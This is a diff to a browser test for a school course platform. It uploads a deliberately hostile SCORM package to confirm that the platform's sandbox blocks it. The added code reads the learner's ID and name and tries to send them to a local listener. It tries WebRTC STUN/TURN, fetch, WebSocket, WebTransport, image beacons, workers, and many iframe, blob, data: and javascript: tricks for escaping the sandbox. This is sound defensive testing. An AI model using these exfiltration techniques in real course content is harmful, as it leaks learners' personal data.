@@ -1,6 +1,7 @@
 /** A course with a package: made by a school, gone through without a network, and closed off from everything else. */
 import { randomUUID } from 'node:crypto';
-import { createServer, type Server } from 'node:http';
+import { createSocket } from 'node:dgram';
+import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { OpenedCourse } from '#contract/courses/authoring.ts';
 import type { PackageFacts } from '#contract/courses/parts.ts';
@@ -11,11 +12,83 @@ import { h5pEntries, scormEntries, uploadPackage, zipOf } from '../support/packa
 import { takeFaults } from '../support/page-faults.ts';
 import { demoPassword, Student } from '../support/student.ts';
 
+/** Of a document or worker inside a package: it carries the learner's name away by every way that it still has. */
+function carrier(name: string, { address, port }: Pick<Listener, 'address' | 'port'>): string {
+  const host = address.replace('http://', '');
+  const servers = [
+    { urls: `stun:127.0.0.1:${port}` },
+    { urls: `turn:${host}?transport=tcp`, username: 'learner', credential: 'x' },
+  ];
+  return `(function () {
+    function attempt(work) { try { Promise.resolve(work()).catch(function () {}); } catch (error) {} }
+    if (typeof RTCPeerConnection === 'function') attempt(function () { parent.postMessage('calls of ${name}', '*'); });
+    if (typeof WebTransport === 'function' && self.document) attempt(function () { parent.postMessage('transport of ${name}', '*'); });
+    attempt(function () {
+      var connection = new RTCPeerConnection({ iceServers: ${JSON.stringify(servers)} });
+      connection.createDataChannel('a');
+      return connection.createOffer().then(function (offer) { return connection.setLocalDescription(offer); });
+    });
+    attempt(function () { return fetch('${address}/${name}'); });
+    attempt(function () { new WebSocket('ws://${host}/${name}'); });
+    attempt(function () { return new WebTransport('https://${host}/${name}').ready; });
+    attempt(function () { new Image().src = '${address}/${name}.png'; });
+    attempt(function () { importScripts('${address}/${name}.js'); });
+  })();`;
+}
+
+/** Frames and workers that a package makes, in the ways that browsers have for it. */
+function insiders(listener: Listener): string {
+  const markup = (name: string) => `<script>${carrier(name, listener)}</script>`;
+  const asText = (text: string) => JSON.stringify(text).replaceAll('</', String.raw`<\/`);
+  const inAttribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
+  const page = (name: string) =>
+    `<html xmlns="http://www.w3.org/1999/xhtml"><body><iframe srcdoc="${inAttribute(markup(name))}"/></body></html>`;
+  return `<iframe srcdoc="${inAttribute(markup('markup'))}"></iframe><script>
+  function frame(make) { var one = document.createElement('iframe'); make(one); document.body.append(one); return one; }
+  attempt('srcdoc', function () { frame(function (one) { one.srcdoc = ${asText(markup('srcdoc'))}; }); });
+  attempt('attribute', function () { frame(function (one) { one.setAttribute('srcDoc', ${asText(markup('attribute'))}); }); });
+  attempt('node', function () {
+    var node = document.createAttribute('srcdoc');
+    node.value = ${asText(markup('node'))};
+    frame(function (one) { one.setAttributeNode(node); });
+  });
+  attempt('html', function () { document.body.insertAdjacentHTML('beforeend', ${asText(`<iframe srcdoc="${inAttribute(markup('html'))}"></iframe>`)}); });
+  attempt('inner', function () { frame(function (one) { one.srcdoc = ${asText(`<iframe srcdoc="${inAttribute(markup('inner'))}"></iframe>`)}; }); });
+  attempt('loaded', function () {
+    var request = new XMLHttpRequest();
+    request.open('GET', URL.createObjectURL(new Blob([${asText(page('loaded'))}], { type: 'application/xhtml+xml' })));
+    request.responseType = 'document';
+    request.onload = function () { document.body.append(document.importNode(request.response.querySelector('iframe'), true)); };
+    request.send();
+  });
+  attempt('policy', function () {
+    var own = trustedTypes.createPolicy('own', { createHTML: function (html) { return html; } });
+    frame(function (one) { one.srcdoc = own.createHTML(${asText(markup('policy'))}); });
+  });
+  attempt('blank', function () { return typeof frame(function (one) { one.src = 'about:blank'; }).contentWindow.RTCPeerConnection === 'function'; });
+  attempt('blank document', function () { frame(function () {}).contentDocument.write(${asText(markup('blank'))}); return true; });
+  attempt('script address', function () { frame(function (one) { one.src = 'javascript:' + ${asText(carrier('address', listener))}; }); });
+  attempt('blob', function () {
+    frame(function (one) { one.src = URL.createObjectURL(new Blob([${asText(markup('blob'))}], { type: 'text/html' })); });
+  });
+  attempt('data', function () { frame(function (one) { one.src = 'data:text/html,' + encodeURIComponent(${asText(markup('data'))}); }); });
+  attempt('own worker', function () { new Worker(URL.createObjectURL(new Blob([${asText(carrier('worker', listener))}]))); });
+  frame(function (one) { one.srcdoc = '<p>Plain</p><scr' + 'ipt>parent.postMessage("plain " + document.body.textContent, "*")</scr' + 'ipt>'; });
+  </script>`;
+}
+
 /** Tells a score by the interface of the standard, and everything that it could reach beside. */
-function attacker(foreign: string): string {
+function attacker(listener: Listener): string {
+  const foreign = listener.address;
   return `<!doctype html><title>Attack</title><link rel="stylesheet" href="${foreign}/style.css"><link rel="preconnect" href="${foreign}">
 <img src="${foreign}/markup.png"><form id="f" action="${foreign}/form" method="post"><input name="a"></form><script>
   var reached = [];
+  var plain = 'no plain frame';
+  addEventListener('message', function (event) {
+    if (typeof event.data !== 'string') return;
+    if (event.data.indexOf('plain') === 0) plain = event.data;
+    else reached.push(event.data);
+  });
   function attempt(name, work) {
     try { Promise.resolve(work()).then(function (value) { if (value) reached.push(name); }, function () {}); } catch (error) {}
   }
@@ -40,6 +113,7 @@ function attacker(foreign: string): string {
   for (var index = 0; index < 50; index += 1) alert('x');
   attempt('top', function () { top.location.href = '${foreign}/top'; });
   API.LMSInitialize('');
+  var known = API.LMSGetValue('cmi.core.student_id') + ' ' + API.LMSGetValue('cmi.core.student_name');
   var before = API.LMSGetValue('cmi.core.lesson_location');
   addEventListener('leave', function () { attempt('leave', function () { location.href = '${foreign}/leave'; }); });
   // In the last moment: nothing is left for it to be passed on later.
@@ -52,17 +126,19 @@ function attacker(foreign: string): string {
     API.LMSSetValue('cmi.comments', reached.join(', '));
     API.LMSSetValue('cmi.core.lesson_status', 'completed');
     API.LMSFinish('');
-    document.body.append('Reached: ' + (reached.join(', ') || 'nothing') + '. Before: ' + before);
-  }, 700);
-</script>`;
+    document.body.append('Reached: ' + (reached.join(', ') || 'nothing') + '. Before: ' + before + '. Known as ' + known + '. There is ' + plain);
+  }, 1500);
+</script>${insiders(listener)}`;
 }
 
-const stopped = /Content Security Policy|sandboxed|TypeError: Failed to fetch|WebSocket|EventSource/;
+const stopped = /Content Security Policy|Trusted|Unsafe attempt|sandboxed|TypeError: Failed to fetch|WebSocket|EventSource/;
 
 interface Listener {
   address: string;
+  /** For datagrams: what asks a STUN server. */
+  port: number;
   asked: string[];
-  server: Server;
+  stop: () => void;
 }
 
 async function listen(): Promise<Listener> {
@@ -73,7 +149,15 @@ async function listen(): Promise<Listener> {
   });
   server.on('connection', () => asked.push('connection'));
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  return { address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };
+  const datagrams = createSocket('udp4');
+  datagrams.on('message', () => asked.push('datagram'));
+  await new Promise<void>((resolve) => datagrams.bind(0, '127.0.0.1', resolve));
+  const stop = (): void => {
+    server.close();
+    datagrams.close();
+  };
+  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  return { address, port: datagrams.address().port, asked, stop };
 }
 
 test('a school makes a course with a package, and a teacher passes it without a network', async ({ school, browser }) => {
@@ -91,7 +175,7 @@ test('a school makes a course with a package, and a teacher passes it without a 
   await lesson.locator('input[lang="kk"]').fill('Сабақ');
   await lesson.locator('input[lang="ru"]').fill('Урок');
   await lesson.getByTestId('lesson-end').selectOption('package');
-  const buffer = zipOf(scormEntries({}, attacker(foreign.address)));
+  const buffer = zipOf(scormEntries({}, attacker(foreign)));
   await lesson.locator('input[type="file"]').setInputFiles({ name: 'attack.zip', mimeType: 'application/zip', buffer });
   await office.getByTestId('licence').fill('CC BY');
   await office.getByTestId('take-package').click();
@@ -108,7 +192,9 @@ test('a school makes a course with a package, and a teacher passes it without a 
   await page.getByTestId('start-lesson').click();
   await page.getByTestId('course-language').getByRole('button', { name: 'Русский' }).click();
   const frame = page.frameLocator('[data-testid="package-frame"]');
-  await expect(frame.locator('body')).toContainText('Reached: nothing');
+  await expect(frame.locator('body')).toContainText('Reached: nothing', { timeout: 20_000 });
+  // It knows a made-up name, and its own frames are not disturbed.
+  await expect(frame.locator('body')).toContainText(/Known as (L-[0-9a-f]{16}) \1\. There is plain Plain/);
   await frame.locator('body').dispatchEvent('leave', { bubbles: true });
   await expect(frame.locator('body')).toBeEmpty();
   await page.getByTestId('hold-package').click();
@@ -134,7 +220,7 @@ test('a school makes a course with a package, and a teacher passes it without a 
   await teacher.leaves();
   await director.leaves();
   expect(foreign.asked).toEqual([]);
-  foreign.server.close();
+  foreign.stop();
   // The browser's own words for each attack that it stopped, and for nothing else.
   expect(takeFaults().filter((fault) => !stopped.test(fault))).toEqual([]);
 });
